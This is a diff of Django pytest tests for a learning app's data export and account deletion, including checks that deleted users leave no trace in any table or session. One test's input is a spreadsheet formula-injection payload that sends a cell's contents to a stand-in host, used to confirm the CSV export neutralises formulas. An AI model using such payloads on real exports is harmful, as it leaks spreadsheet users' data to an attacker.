@@ -4,7 +4,13 @@ import json
 import zipfile
 
 import pytest
-from django.contrib.auth import get_user_model
+from axes.models import AccessAttempt, AccessLog
+from django.apps import apps
+from django.contrib.admin.models import CHANGE, LogEntry
+from django.contrib.auth import SESSION_KEY, get_user_model
+from django.contrib.sessions.models import Session
+from django.db import models
+from django.db.models.functions import Cast
 from django.test import Client
 
 from assessments.models import Assessment, Rating
@@ -23,6 +29,7 @@ from tests.factories import (
     make_history,
     make_question,
     make_topic,
+    make_user,
 )
 
 pytestmark = pytest.mark.django_db
@@ -186,3 +193,139 @@ def test_data_pages_require_login():
     client = Client()
     for url in ("/accounts/export/", "/accounts/delete/", "/accounts/reset/"):
         assert client.get(url).url.startswith("/accounts/login/")
+
+
+def test_csv_cells_that_look_like_formulas_are_text_and_json_keeps_them_exact(alice_client, alice):
+    question = make_question(title="Bias and variance")
+    make_history(user=alice, questions=[question])
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    Attempt.objects.filter(user=alice).update(answer=formula)
+    QuestionNote.objects.create(user=alice, question=question, text="- a list")
+
+    archive = _archive(alice_client.get("/accounts/export/"))
+
+    attempt_rows = list(csv.DictReader(io.StringIO(archive.read("attempts.csv").decode())))
+    note_rows = list(csv.DictReader(io.StringIO(archive.read("notes.csv").decode())))
+    assert attempt_rows[0]["answer"] == "'" + formula
+    assert note_rows[0]["text"] == "'- a list"
+    assert json.loads(archive.read("attempts.json"))[0]["answer"] == formula
+    assert json.loads(archive.read("notes.json"))[0]["text"] == "- a list"
+
+
+# Strings that appear nowhere else, so that any column holding them names the deleted user.
+ERASED_NAME = "qzvexmorrow"
+ERASED_EMAIL = "Qzv.Inbox.4417@Example.org"
+BROWSER = "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"
+
+
+def _log_in(client, username, password=DEFAULT_PASSWORD):
+    return client.post("/accounts/login/", {"username": username, "password": password})
+
+
+def _rows_naming(*, user_id: int, texts: list[str]) -> list[str]:
+    """Every column of every table (many-to-many tables too) that points at the user or holds
+    one of the texts."""
+    user_model = get_user_model()
+    found = []
+    for model in apps.get_models(include_auto_created=True):
+        rows = model._base_manager.all()
+        for field in model._meta.concrete_fields:
+            where = f"{model._meta.db_table}.{field.column}"
+            if field.is_relation and field.related_model is user_model:
+                if rows.filter(**{field.attname: user_id}).exists():
+                    found.append(where)
+            elif isinstance(field, models.CharField | models.TextField | models.JSONField):
+                as_text = rows.annotate(scanned=Cast(field.name, models.TextField()))
+                for text in texts:
+                    if as_text.filter(scanned__icontains=text).exists():
+                        found.append(f"{where} holds {text!r}")
+    return found
+
+
+def _sessions_of(user_id: int) -> list[str]:
+    """Keys of stored sessions, in any session table, that are logged in as the user."""
+    session_models = {Session, Client().session.get_model_class()}
+    return [
+        row.session_key
+        for model in session_models
+        for row in model.objects.all()
+        if row.get_decoded().get(SESSION_KEY) == str(user_id)
+    ]
+
+
+def test_after_deletion_no_table_names_the_user(editor):
+    user = make_user(username=ERASED_NAME, email=ERASED_EMAIL)
+    user.profile.display_name = f"{ERASED_NAME} the learner"
+    user.profile.save()
+    skills, role = make_catalogue(size=2)
+    questions = [make_question(), make_question()]
+    make_history(user=user, questions=questions, attempts_per_question=2)
+    Bookmark.objects.create(user=user, question=questions[0])
+    QuestionNote.objects.create(user=user, question=questions[0], text="My note")
+    QuestionFlag.objects.create(user=user, question=questions[1], reason="unclear")
+    make_assessment(user=user, levels={skills[0]: 2, skills[1]: 3}, role=role)
+    LogEntry.objects.log_actions(
+        user_id=editor.pk,
+        queryset=[user.profile],
+        action_flag=CHANGE,
+        change_message="Changed display name.",
+    )
+    # Someone mistypes the password, once with the username and once with the e-mail.
+    stranger = Client(REMOTE_ADDR="198.51.100.9", HTTP_USER_AGENT=BROWSER)
+    _log_in(stranger, ERASED_NAME, "wrong-password")
+    _log_in(stranger, ERASED_EMAIL, "wrong-password")
+    # Logged in on a phone, which stays logged in, and on a laptop, which deletes the account.
+    phone = Client(REMOTE_ADDR="198.51.100.10", HTTP_USER_AGENT=BROWSER)
+    laptop = Client(REMOTE_ADDR="198.51.100.11", HTTP_USER_AGENT=BROWSER)
+    assert _log_in(phone, ERASED_NAME).status_code == 302
+    assert _log_in(laptop, ERASED_NAME).status_code == 302
+    assert AccessLog.objects.filter(username=ERASED_NAME).count() == 2
+    assert AccessAttempt.objects.filter(username=ERASED_EMAIL).exists()
+    assert _sessions_of(user.pk)
+    assert _rows_naming(user_id=user.pk, texts=[ERASED_NAME, ERASED_EMAIL])
+
+    response = laptop.post("/accounts/delete/", {"password": DEFAULT_PASSWORD}, follow=True)
+
+    assert "Your account and all of your data are deleted" in response.content.decode()
+    remaining = _rows_naming(user_id=user.pk, texts=[ERASED_NAME, ERASED_EMAIL])
+    assert remaining == [], "\n".join(remaining)
+    assert _sessions_of(user.pk) == []
+    assert phone.get("/dashboard/").url.startswith("/accounts/login/")
+    assert get_user_model().objects.filter(pk=editor.pk).exists()
+
+
+def test_deletion_keeps_other_users_log_ins_and_sessions(alice):
+    bob = make_user(username="bob")
+    bobs_browser = Client(REMOTE_ADDR="198.51.100.12")
+    _log_in(bobs_browser, "bob")
+    _log_in(Client(REMOTE_ADDR="198.51.100.12"), "bob", "wrong-password")
+    alices_browser = Client(REMOTE_ADDR="198.51.100.13")
+    _log_in(alices_browser, "alice")
+
+    alices_browser.post("/accounts/delete/", {"password": DEFAULT_PASSWORD})
+
+    assert AccessLog.objects.filter(username="bob").count() == 1
+    assert AccessAttempt.objects.filter(username="bob").count() == 1
+    assert _sessions_of(bob.pk)
+    assert bobs_browser.get("/dashboard/").status_code == 200
+
+
+def test_export_holds_my_log_in_history(alice):
+    make_user(username="bob")
+    browser = Client(REMOTE_ADDR="198.51.100.14", HTTP_USER_AGENT=BROWSER)
+    _log_in(browser, "alice")
+    browser.post("/accounts/logout/")
+    _log_in(Client(REMOTE_ADDR="198.51.100.15"), "bob")
+    _log_in(browser, "alice")
+
+    archive = _archive(browser.get("/accounts/export/"))
+
+    logins = json.loads(archive.read("logins.json"))
+    assert [(row["ip_address"], row["user_agent"]) for row in logins] == [
+        ("198.51.100.14", BROWSER)
+    ] * 2
+    assert logins[0]["logout_time"] is not None and logins[1]["logout_time"] is None
+    assert logins[0]["attempt_time"] < logins[1]["attempt_time"]
+    rows = list(csv.DictReader(io.StringIO(archive.read("logins.csv").decode())))
+    assert [row["ip_address"] for row in rows] == ["198.51.100.14"] * 2
+    assert "logins" in archive.read("README.txt").decode()
